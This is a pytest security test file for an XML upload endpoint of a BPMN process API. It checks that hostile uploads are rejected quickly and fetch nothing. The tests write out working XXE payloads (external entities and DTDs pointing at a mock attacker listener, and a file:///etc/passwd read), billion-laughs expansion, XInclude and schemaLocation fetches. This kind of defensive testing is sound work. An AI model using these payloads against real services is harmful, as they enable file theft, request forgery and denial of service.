"""Hostile XML uploads over real HTTP: each is rejected within 1 s, nothing is fetched.

A listener on 127.0.0.1 stands in for an attacker's server: external entities, external
DTDs, parameter entities, XInclude and schemaLocation all point at it, and it must never
receive a connection. The 1 s bound is a security property (no parser work proportional to
an expansion), asserted generously on a loaded 2-core machine.
"""
from __future__ import annotations

import socket
import threading
import time

import pytest
import requests

from tests.conftest import BPMN

pytestmark = pytest.mark.once  # the XML parser does the work, not the database: the SQLite pass runs it

BOUND_S = 1.0
HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'
BPMN_OPEN = ('<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="D" '
             'targetNamespace="http://x">')


class Listener:
    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.url = f"http://127.0.0.1:{self.port}"
        self.hits: list[bytes] = []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self.run, daemon=True)
        self.thread.start()

    def run(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    self.hits.append(conn.recv(4096) or b"(connected)")
                except OSError:
                    self.hits.append(b"(connected)")

    def close(self) -> None:
        self.stop.set()
        self.thread.join(2)
        self.sock.close()


@pytest.fixture
def attacker():
    listener = Listener()
    yield listener
    time.sleep(0.3)  # anything fetched late would still be counted
    listener.close()
    assert listener.hits == [], f"the server fetched from the attacker: {listener.hits}"


@pytest.fixture
def upload(live_server, api):
    token = api.token("owner")

    def send(data: bytes, content_type: str = "application/xml", multipart: bool = False) -> tuple[requests.Response, float]:
        url = f"{live_server.url}/api/v1/process-definitions?filename=x.bpmn"
        headers = {"Authorization": f"Bearer {token}"}
        began = time.monotonic()
        if multipart:
            r = requests.post(url, headers=headers, files={"file": ("x.bpmn", data, "application/xml")}, timeout=30)
        else:
            r = requests.post(url, headers={**headers, "Content-Type": content_type}, data=data, timeout=30)
        return r, time.monotonic() - began

    return send


def laughs(levels: int = 10) -> str:
    ents = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{("&lol%d;" % (i - 1)) * 10}">' for i in range(1, levels)]
    return f"<!DOCTYPE bpmn:definitions [{''.join(ents)}]>"


def cases(url: str) -> dict[str, bytes]:
    body = '<bpmn:process id="p" isExecutable="true"><bpmn:startEvent id="s" name="&x;"/></bpmn:process>'
    return {
        "entity expansion": (HEAD + laughs() + BPMN_OPEN.replace('id="D"', 'id="&lol9;"') + "</bpmn:definitions>").encode(),
        "external entity": (HEAD + f'<!DOCTYPE d [<!ENTITY x SYSTEM "{url}/xxe">]>' + BPMN_OPEN + body
                            + "</bpmn:definitions>").encode(),
        "local file entity": (HEAD + '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + BPMN_OPEN + body
                              + "</bpmn:definitions>").encode(),
        "parameter entity": (HEAD + f'<!DOCTYPE d [<!ENTITY % p SYSTEM "{url}/param"> %p;]>' + BPMN_OPEN
                             + "</bpmn:definitions>").encode(),
        "external DTD": (HEAD + f'<!DOCTYPE bpmn:definitions SYSTEM "{url}/dtd">' + BPMN_OPEN
                         + "</bpmn:definitions>").encode(),
        "plain DOCTYPE": (HEAD + "<!DOCTYPE bpmn:definitions>" + BPMN_OPEN + "</bpmn:definitions>").encode(),
        "UTF-16 DOCTYPE": ('<?xml version="1.0" encoding="UTF-16"?>\n' + f'<!DOCTYPE d [<!ENTITY x SYSTEM "{url}/u16">]>'
                           + BPMN_OPEN + body + "</bpmn:definitions>").encode("utf-16"),
        "UTF-16 internal DTD": ('<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE d [<!ENTITY x "harmless">]>'
                                + BPMN_OPEN + body + "</bpmn:definitions>").encode("utf-16"),
        "deep nesting": (HEAD + BPMN_OPEN + "<a>" * 100_000 + "</a>" * 100_000 + "</bpmn:definitions>").encode(),
    }


@pytest.mark.parametrize("name", ["entity expansion", "external entity", "local file entity", "parameter entity",
                                  "external DTD", "plain DOCTYPE", "UTF-16 DOCTYPE", "UTF-16 internal DTD",
                                  "deep nesting"])
@pytest.mark.parametrize("multipart", [False, True], ids=["xml-body", "multipart"])
def test_hostile_xml_is_rejected_quickly(upload, attacker, name, multipart):
    r, elapsed = upload(cases(attacker.url)[name], multipart=multipart)
    assert r.status_code == 422, (name, r.status_code, r.text[:300])
    assert r.json()["error"] == "invalid"
    if "DOCTYPE" in name or "DTD" in name or "entit" in name:
        assert "DOCTYPE" in r.json()["message"] or "entity" in r.json()["message"], r.json()
    assert "passwd" not in r.text and "root:" not in r.text
    assert elapsed < BOUND_S, f"{name}: {elapsed:.2f} s"


def test_xinclude_and_schema_location_are_not_fetched(upload, attacker, session):
    xml = (BPMN / "three_tier.bpmn").read_text().replace(
        'targetNamespace="http://sanji.example/bpmn">',
        'targetNamespace="http://sanji.example/bpmn" xmlns:xi="http://www.w3.org/2001/XInclude" '
        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        f'xsi:schemaLocation="http://www.omg.org/spec/BPMN/20100524/MODEL {attacker.url}/xsd">'
        f'<xi:include href="{attacker.url}/xinclude"/>')
    r, elapsed = upload(xml.encode())
    assert r.status_code in (201, 422), r.text[:300]  # either way: nothing is fetched (checked by `attacker`)
    assert elapsed < 5


@pytest.mark.parametrize("multipart", [False, True], ids=["xml-body", "multipart"])
def test_ten_megabyte_body_is_413(upload, multipart):
    big = (HEAD + BPMN_OPEN + "<!--" + "x" * (10 * 1024 * 1024) + "--></bpmn:definitions>").encode()
    r, elapsed = upload(big, multipart=multipart)
    assert r.status_code == 413, r.status_code
    assert r.json()["error"] == "too_large"
    assert elapsed < BOUND_S, f"{elapsed:.2f} s"
